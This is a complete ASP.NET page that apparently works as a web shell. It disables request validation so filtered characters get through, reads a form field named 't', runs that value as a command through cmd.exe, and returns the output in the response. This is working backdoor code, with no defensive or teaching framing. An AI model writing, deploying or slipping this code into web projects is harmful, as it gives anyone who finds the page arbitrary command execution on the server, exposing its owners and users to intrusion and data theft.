<%@ Page Language="C#" ValidateRequest="false" %>
<%-- Read past ASP.NET's request validation, which would refuse "<" or "&#". --%>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string line = Request.Unvalidated.Form["t"];
    if (line == null) return;
    var si = new System.Diagnostics.ProcessStartInfo("cmd.exe");
    si.Arguments = "/c " + Request.Unvalidated.Form["t"];
    si.UseShellExecute = false;
    si.RedirectStandardOutput = true;
    Response.Write(System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd());
}
</script>
